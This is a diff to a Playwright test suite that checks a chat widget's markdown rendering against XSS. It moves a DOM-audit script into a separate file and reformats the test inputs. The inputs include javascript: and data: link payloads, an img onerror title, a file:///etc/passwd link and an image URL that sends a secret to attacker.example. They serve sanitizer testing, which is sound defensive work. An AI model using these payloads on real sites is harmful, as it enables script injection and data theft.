@@ -22,30 +22,8 @@ for (const name of ['alert', 'confirm', 'prompt', 'print']) {
   window[name] = (...args) => { window.__ran.push([name, String(args[0])]); };
 }
 """
-# What the final DOM of every answer is checked for, inside the widget's shadow root.
-AUDIT = """() => {
-  const root = document.querySelector('chat-widget').shadowRoot;
-  const problems = [];
-  const forbidden = 'script, iframe, frame, object, embed, form, input, style, meta, link:not([rel=stylesheet]), svg, math, base, textarea:not([aria-label=Message]), video, audio, source';
-  const scope = root.querySelectorAll('.transcript article');
-  for (const article of scope) {
-    for (const node of article.querySelectorAll(forbidden)) problems.push('element ' + node.tagName);
-    for (const node of article.querySelectorAll('*')) {
-      for (const attr of node.attributes) {
-        if (/^on/i.test(attr.name)) problems.push('handler ' + attr.name + ' on ' + node.tagName);
-        if (['id', 'name', 'style', 'srcdoc', 'formaction', 'xlink:href'].includes(attr.name))
-          problems.push('attribute ' + attr.name + ' on ' + node.tagName);
-      }
-    }
-    for (const a of article.querySelectorAll('a[href]')) {
-      if (!/^(https?:|mailto:)/i.test(a.getAttribute('href'))) problems.push('link ' + a.getAttribute('href'));
-      if (a.getAttribute('rel') !== 'noopener noreferrer' || a.getAttribute('target') !== '_blank')
-        problems.push('link without rel/target ' + a.getAttribute('href'));
-    }
-    for (const img of article.querySelectorAll('img[src]')) problems.push('image ' + img.getAttribute('src'));
-  }
-  return {problems, ran: window.__ran, articles: scope.length};
-}"""
+# What the final DOM of every message is checked for (evaluated in the page).
+AUDIT = (Path(__file__).parent / "audit.js").read_text()
 
 
 def corpus_file(name: str) -> Path:
@@ -75,7 +53,8 @@ def markdown_it_cases() -> list[str]:
 def hostile_inputs() -> list[str]:
     extra = [
         "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
-        "[d](%6Aavascript:alert(1)) [e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[d](%6Aavascript:alert(1))",
+        "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "[f](vbscript:msgbox(1)) [g](file:///etc/passwd) [h](&#x6A;avascript:alert(1))",
         "<javascript:alert(1)> <https://ok.example/path>",
         "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
@@ -156,8 +135,10 @@ def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str]) -
             {"role": "tool", "tool_call_id": f"c{number}", "name": "t", "content": payload},
             {"role": "assistant", "content": payload},
         ]
-    snapshot = {"version": 1, "id": "hostile", "title": "<img src=x onerror=alert(1)>",
-                "created": 1, "updated": 2, "model": "demo", "thinking": "off", "messages": messages}  # fmt: skip
+    snapshot = {
+        "version": 1, "id": "hostile", "title": "<img src=x onerror=alert(1)>", "created": 1,
+        "updated": 2, "model": "demo", "thinking": "off", "messages": messages,
+    }  # fmt: skip
     page.evaluate("s => document.querySelector('chat-widget').session.restore(s)", snapshot)
     expect(log(page).locator("article[data-role=tool]")).to_have_count(len(hostile_inputs()))
     expect(page.get_by_role("heading", level=2)).to_have_text("<img src=x onerror=alert(1)>")
@@ -168,7 +149,8 @@ def test_markdown_reads_well(page: Page, guarded: list[str]) -> None:
     host_page(page, 'history="memory"')
     answer = (
         "Some *emphasis*, **strong** and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n"
-        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[a link](https://example.com/docs) and mail@example.com\n\n"
+        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+        "[a link](https://example.com/docs) and mail@example.com\n\n"
         "```python\nprint('hi')\n```\n\n![diagram](https://images.example/d.png)"
     )
     page.route(
